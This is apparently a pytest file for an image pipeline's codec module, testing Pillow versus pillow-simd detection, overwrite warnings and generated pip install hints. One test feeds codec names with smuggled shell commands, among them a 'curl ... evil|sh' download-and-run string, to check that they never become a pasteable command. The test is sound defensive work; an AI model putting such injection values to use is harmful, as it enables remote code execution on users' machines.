"""Which Pillow is installed, and what is said where it is not the one that should be."""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

import pytest
from support import ROOT

from pipeline.images import codec

SIMD = "12.1.1.post0"


def pretend(
    monkeypatch: pytest.MonkeyPatch, *, folder: str, simd: str | None, plain: str | None
) -> None:
    """Have pip's records and the folder PIL say something else."""
    versions = {codec.SIMD: simd, codec.PLAIN: plain}
    monkeypatch.setattr(codec, "distribution_version", versions.get)
    monkeypatch.setattr(codec, "installed_version", lambda: folder)


def test_the_owner_of_the_folder_is_named_with_its_versions() -> None:
    owner, version, slash, library, library_version = codec.identity().split()
    assert (owner, slash, library) == ("pillow-simd", "/", "libjpeg-turbo")
    assert version == codec.distribution_version("pillow-simd") == codec.installed_version()
    assert library_version[0].isdigit()


@pytest.mark.parametrize(
    ("folder", "simd", "plain", "warns"),
    [
        (SIMD, SIMD, None, False),
        (SIMD, SIMD, "12.1.1", False),  # pillow-simd was installed last
        ("12.1.1", None, "12.1.1", False),
        ("12.1.1", SIMD, "12.1.1", True),
        ("11.0.0", SIMD, "11.0.0", True),
    ],
)
def test_pillow_over_pillow_simd_is_said_with_what_undoes_it(
    monkeypatch: pytest.MonkeyPatch, folder: str, simd: str | None, plain: str | None, warns: bool
) -> None:
    pretend(monkeypatch, folder=folder, simd=simd, plain=plain)
    warning = codec.warning()
    assert (warning is not None) == warns
    if warning is not None:
        assert f"pillow {folder} was installed over pillow-simd {simd}" in warning
        assert f"--no-binary pillow-simd pillow-simd=={simd}" in warning


@pytest.mark.parametrize(
    ("name", "said"),
    [
        (
            "pillow-simd 9.5.0.post2 / libjpeg-turbo 2.1.5",
            "pillow-simd==9.5.0.post2, built with libjpeg-turbo 2.1.5",
        ),
        (
            "pillow 12.1.1 / libjpeg-turbo 3.1.3 / zlib 1.3.1",
            "pillow==12.1.1, which has libjpeg-turbo 3.1.3 / zlib 1.3.1",
        ),
        ("opencv 4.11.0 / build-libjpeg-turbo", "opencv-python-headless==4.11.0.*"),
        ("something", "install the codec that is named 'something'"),
    ],
)
def test_how_to_install_a_codec_is_said(name: str, said: str) -> None:
    assert said in codec.how_to_install(name)


@pytest.mark.parametrize(
    "name",
    [
        "pillow-simd 9.5.0;curl${IFS}evil|sh / libjpeg-turbo 2.1.5",
        "pillow 9.5.0 / libjpeg `evil`",
        "pillow 9.5.0 / libjpeg; evil",
        "opencv 4.11.0\nevil / x",
    ],
)
def test_no_command_to_paste_is_made_of_what_is_no_codec(name: str) -> None:
    assert codec.how_to_install(name) == f"install the codec that is named {name!r}"


@pytest.mark.parametrize(
    ("files", "found"),
    [
        ({"__init__.py": "raise ImportError('there is none')"}, "no module PIL"),
        ({"__init__.py": ""}, "a folder PIL without the files of Pillow"),
        (
            {
                "__init__.py": "__version__ = '8.0.0'",
                "Image.py": "raise ImportError('built for another version')",
            },
            "PIL 8.0.0, which cannot be loaded: built for another version",
        ),
    ],
)
def test_a_pillow_that_is_not_whole_is_refused_with_what_to_install(
    tmp_path: Path, files: dict[str, str], found: str
) -> None:
    folder = tmp_path / "PIL"
    folder.mkdir()
    for name, content in files.items():
        (folder / name).write_text(content)
    code = (
        f"import sys; sys.path[:0] = [{str(tmp_path)!r}, {str(ROOT)!r}]\n"
        "from pipeline.images import codec\n"
        "try: codec.identity()\n"
        "except codec.EnvironmentRefused as error: print(error)\n"
    )
    run = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=False)
    assert run.returncode == 0, run.stderr
    assert found in run.stdout
    assert "pip install" in run.stdout
